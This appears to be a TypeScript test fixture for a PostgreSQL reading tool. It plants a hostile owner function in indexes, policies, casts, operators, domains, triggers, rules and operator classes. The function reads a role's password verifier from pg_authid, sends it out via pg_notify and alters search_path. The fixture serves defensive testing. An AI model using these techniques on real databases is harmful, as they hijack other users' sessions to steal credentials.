import { readFileSync } from 'node:fs';

/**
 * Code of a table's owner, in every place where PostgreSQL might run it while somebody else reads the table. Each leaves a
 * line in the server's log, which no read-only transaction and no rollback takes back, says who ran it and tries to send a
 * password verifier out. Run as the master user, who may become `app_owner`.
 */
export const strangersSql = `create role app_owner; grant app_owner to current_user; create schema app authorization app_owner;
set role app_owner;
create function app.evil(n int) returns int language plpgsql immutable as $$
declare verifier text;
begin
  raise log 'EVIL % ran as % for %', n, current_user, current_setting('application_name');
  begin
    select rolpassword into verifier from pg_authid where rolname = 'gameday';
    perform pg_notify('stolen', coalesce(verifier, 'nothing'));
    perform set_config('search_path', 'app', false);
  exception when others then null;
  end;
  return n;
end $$;
create function app.evil_less(int, int) returns boolean language sql immutable as 'select app.evil(50) < $2';
create operator app.<<< (leftarg = int, rightarg = int, function = app.evil_less);
create type app.pair as (x int, acl aclitem);
create function app.evil_text(app.pair) returns text language sql as 'select app.evil(51)::text';
create cast (app.pair as text) with function app.evil_text(app.pair);
create cast (app.pair as varchar) with function app.evil_text(app.pair) as implicit;
create domain app.small as int check (value < 1000);
`;

export type Form = {
  readonly table: string;
  /** Columns beside `a int` and `b int not null`. */
  readonly columns?: string;
  readonly ddl: string;
  /** What is named in the reason of the table, or in the structure rung; undefined: nothing runs, so nothing is. */
  readonly names?: string;
  /** How the table comes out when nobody changes it. */
  readonly status: 'proven' | 'unverifiable';
};

const evil = "with function app.evil(integer) of 'app_owner'";

export const forms: readonly Form[] = [
  {
    table: 'predicate',
    ddl: 'create index predicate_idx on app.predicate (a) where b > app.evil(1)',
    names: `index app.predicate_idx ${evil}`,
    status: 'proven',
  },
  {
    table: 'expression',
    ddl: 'create index expression_idx on app.expression ((a + app.evil(2)))',
    names: `index app.expression_idx ${evil}`,
    status: 'proven',
  },
  {
    table: 'hashed',
    ddl: 'create index hashed_idx on app.hashed using hash (a) where b > app.evil(3)',
    names: `index app.hashed_idx ${evil}`,
    status: 'proven',
  },
  {
    table: 'statistic',
    ddl: 'create statistics app.statistic_st on (a + app.evil(4)), b from app.statistic; create index on app.statistic using gist (int4range(a, a + 2))',
    names: `statistics app.statistic_st ${evil}`,
    status: 'proven',
  },
  {
    table: 'policied',
    ddl: 'alter table app.policied enable row level security; create policy zzz on app.policied using (b > app.evil(5))',
    names: `policy zzz on app.policied ${evil}`,
    status: 'unverifiable',
  },
  { table: 'cast_to_text', columns: 'p app.pair, ps app.pair[]', ddl: '', status: 'proven' },
  {
    table: 'operated',
    ddl: 'create index operated_idx on app.operated (a) where 1 operator(app.<<<) 2',
    names: `index app.operated_idx with function app.evil_less(integer, integer) of 'app_owner'`,
    status: 'proven',
  },
  {
    table: 'domained',
    ddl: 'create index domained_idx on app.domained ((a + 5::app.small))',
    names: `index app.domained_idx with domain app.small of 'app_owner'`,
    status: 'proven',
  },
  {
    table: 'generated',
    columns: 'g int generated always as (a + 1) stored',
    ddl: 'create index generated_idx on app.generated (a) where b > app.evil(6)',
    names: `index app.generated_idx ${evil}`,
    status: 'unverifiable',
  },
  { table: 'checked', ddl: 'alter table app.checked add check (a < 1000 + app.evil(7))', status: 'proven' },
  { table: 'defaulted', ddl: 'alter table app.defaulted alter b set default app.evil(8)', status: 'proven' },
  {
    table: 'typed',
    columns: 'd app.small default 7',
    ddl: 'alter domain app.small add check (value < 1000 + app.evil(9))',
    status: 'proven',
  },
  {
    table: 'triggered',
    ddl: "create function app.touch() returns trigger language plpgsql as 'begin perform app.evil(10); return new; end'; create trigger touched before update on app.triggered for each row execute function app.touch(); create rule kept as on delete to app.triggered do instead select app.evil(11)",
    status: 'proven',
  },
];

export const tablesSql = forms
  .map(
    ({
      table,
      columns,
      ddl,
      status,
    }) => `create table app.${table} (a int, b int not null${columns === undefined ? '' : `, ${columns}`});
insert into app.${table} (a, b) select g, g from generate_series(1, ${status === 'proven' ? 500 : 1}) g; ${ddl};`,
  )
  .join('\n')
  .concat(`
update app.cast_to_text set p = row(a, 'app_owner=r/app_owner')::app.pair, ps = array[row(a, 'app_owner=r/app_owner')::app.pair, null] where a > 2;
reset role;`);

/** What only a superuser makes, of functions that belong to somebody else: an operator class and a type. */
export const superusersSql = `alter database app set constraint_exclusion = 'on';
create function app.evil_compare(a int, b int) returns int language sql immutable as 'select app.evil(60) - 60 + btint4cmp(a, b)';
create operator class app.strange_ops for type int using btree as operator 1 <, operator 2 <=, operator 3 =, operator 4 >=, operator 5 >,
  function 1 app.evil_compare(int, int);
create type app.text;
create function app.text_in(cstring) returns app.text language internal immutable strict as 'textin';
create function app.text_out(app.text) returns cstring language internal immutable strict as 'textout';
create type app.text (input = app.text_in, output = app.text_out, like = pg_catalog.text);
alter function app.evil_compare owner to app_owner; alter function app.text_out owner to app_owner;
create table app.compared as select g as a from generate_series(1, 500) g;
create index compared_idx on app.compared (a app.strange_ops);
create table app.written (t app.text); insert into app.written values ('x');
alter table app.compared owner to app_owner; alter table app.written owner to app_owner`;

/** What the strangers' code has left in a server's log for one of our sessions. */
export const tracesIn = (logFile: string): string[] =>
  readFileSync(logFile, 'utf8')
    .split('\n')
    .filter((line) => /EVIL \d+ ran as (gameday|\w+ for pg-gameday)/.test(line));
